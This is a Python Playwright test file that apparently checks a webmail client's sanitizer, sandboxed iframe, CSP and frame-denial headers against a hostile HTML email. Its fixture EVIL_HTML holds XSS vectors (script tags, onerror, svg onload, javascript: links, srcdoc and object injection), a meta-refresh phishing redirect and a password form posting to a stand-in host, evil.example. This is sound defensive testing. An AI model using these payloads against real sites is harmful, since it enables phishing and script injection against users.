"""Hostile mail in a real browser: its scripts never run (sanitizer, sandboxed frame and CSP,
each on its own), it cannot navigate the webmail away, and remote images stay blocked until the
user asks for them."""

from __future__ import annotations

from typing import Any

from playwright.async_api import expect

from tests.browser.helpers import ALICE, base_url, logged_in, ready, row
from tests.browser.webclient import deliver
from tests.harness import RunningServer

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a5e2e7f30000000049454e44ae426082")

EVIL_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/css-bg.png)}</style>
<script>window.top.pwned = "script"; top.location = "https://evil.example/";</script>
</head><body onload="top.pwned='onload'">
<h1>Invoice</h1>
<img src="https://images.example/logo.png" alt="logo">
<img src="x" onerror="top.pwned='onerror'">
<svg onload="top.pwned='svg'"><script>top.pwned='svg-script'</script></svg>
<a id="js" href="javascript:top.pwned='link'">pay now</a>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe srcdoc="<script>top.pwned='srcdoc'</script>"></iframe>
<object data="data:text/html,<script>top.pwned='object'</script>"></object>
<div style="background-image:url(https://evil.example/div.png)">styled</div>
<p>Thanks!</p>
</body></html>"""


# For the frame-and-CSP test: the same document without the parts that navigate, so a document
# that stayed put and set nothing proves the scripts were stopped, not navigated away.
SCRIPTS_ONLY = EVIL_HTML.replace(
    '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">', "").replace(
    ' top.location = "https://evil.example/";', "")


def evil_message() -> bytes:
    return ("From: Billing <billing@evil.example>\r\nTo: alice@example.test\r\n"
            "Subject: Your invoice\r\nMessage-ID: <evil@evil.example>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n"
            + EVIL_HTML.replace("\n", "\r\n") + "\r\n").encode()


async def open_evil(web_server: RunningServer, browser: Any) -> tuple[Any, list[str]]:
    await deliver(web_server.store, ALICE[0], evil_message())
    page = await logged_in(browser, web_server, ALICE)
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url)
            if not request.url.startswith(base_url(web_server)) else None)
    await row(page, "Your invoice").click()
    await expect(page.locator("#message-subject")).to_have_text("Your invoice")
    await ready(page)
    frame = page.frame_locator("iframe.mail-frame")
    await expect(frame.locator("h1")).to_have_text("Invoice")
    await page.wait_for_timeout(500)  # time for anything that would run to run
    return page, outside


async def test_malicious_mail_runs_nothing_and_fetches_nothing(web_server: RunningServer,
                                                               browser: Any) -> None:
    page, outside = await open_evil(web_server, browser)
    assert await page.evaluate("window.pwned") is None
    assert page.url.startswith(base_url(web_server))  # no refresh, no top navigation
    assert outside == []  # no remote image, stylesheet, tracker or form target was fetched
    frame_element = page.locator("iframe.mail-frame")
    sandbox = await frame_element.get_attribute("sandbox")
    assert sandbox is not None and "allow-scripts" not in sandbox
    assert "allow-same-origin" not in sandbox
    frame = page.frame_locator("iframe.mail-frame")
    await expect(frame.locator("form, input, script, iframe, object, svg, meta[http-equiv], base,"
                               " link")) \
        .to_have_count(0)
    await expect(frame.locator("a#js")).to_have_count(0)
    await expect(frame.locator("a", has_text="pay now")).not_to_have_attribute("href", "")
    await expect(page.locator(".images-blocked")).to_contain_text("1 remote image blocked")
    # Clicking the defused link does nothing either.
    await frame.locator("a", has_text="pay now").click()
    await page.wait_for_timeout(200)
    assert await page.evaluate("window.pwned") is None
    assert len(page.context.pages) == 1
    assert page.errors == []


async def test_remote_images_load_only_after_asking(web_server: RunningServer,
                                                    browser: Any) -> None:
    page, outside = await open_evil(web_server, browser)
    assert not any("images.example" in url for url in outside)
    fetched: list[str] = []

    async def serve_image(route: Any) -> None:
        fetched.append(route.request.url)
        await route.fulfill(status=200, content_type="image/png", body=PNG)

    await page.context.route("https://images.example/**", serve_image)
    await page.click(".images-blocked a")
    frame = page.frame_locator("iframe.mail-frame")
    await expect(frame.locator("img[alt=logo]")).to_have_attribute(
        "src", "https://images.example/logo.png")
    await page.wait_for_timeout(300)
    assert fetched == ["https://images.example/logo.png"]
    assert not any("evil.example" in url for url in outside)  # CSS and trackers stay blocked
    assert await page.evaluate("window.pwned") is None


async def test_frame_and_csp_hold_even_if_the_sanitizer_failed(web_server: RunningServer,
                                                               browser: Any) -> None:
    """Serve the frame an unsanitized document (as a sanitizer bug would): the sandbox and the
    CSP of the response still stop every script."""
    assert "refresh" not in SCRIPTS_ONLY and "top.location" not in SCRIPTS_ONLY
    await deliver(web_server.store, ALICE[0], evil_message())
    page = await logged_in(browser, web_server, ALICE)

    async def unsanitized(route: Any) -> None:
        response = await route.fetch()
        await route.fulfill(response=response, body=SCRIPTS_ONLY.encode())

    await page.route("**/body*", unsanitized)
    await row(page, "Your invoice").click()
    frame = page.frame_locator("iframe.mail-frame")
    await expect(frame.locator("h1")).to_have_text("Invoice")
    await page.wait_for_timeout(800)
    assert await page.evaluate("window.pwned") is None
    assert page.url.startswith(base_url(web_server))
    await expect(frame.locator("h1")).to_have_text("Invoice")  # still there: nothing navigated
    # Opened on its own (not in the frame), the document is still sandboxed by its CSP.
    mailbox_uid = await row(page, "Your invoice").get_attribute("href")
    assert mailbox_uid is not None
    direct = await page.context.new_page()
    await direct.route("**/body*", unsanitized)
    await direct.goto(f"{base_url(web_server)}{mailbox_uid.split('?')[0]}/body")
    await expect(direct.locator("h1")).to_have_text("Invoice")
    await direct.wait_for_timeout(500)
    assert await direct.evaluate("window.pwned") is None
    assert direct.url.endswith("/body")


async def test_webmail_pages_refuse_to_be_framed(web_server: RunningServer,
                                                 browser: Any) -> None:
    page = await logged_in(browser, web_server, ALICE)
    response = await page.goto("/mail")
    assert response is not None
    headers = await response.all_headers()
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"
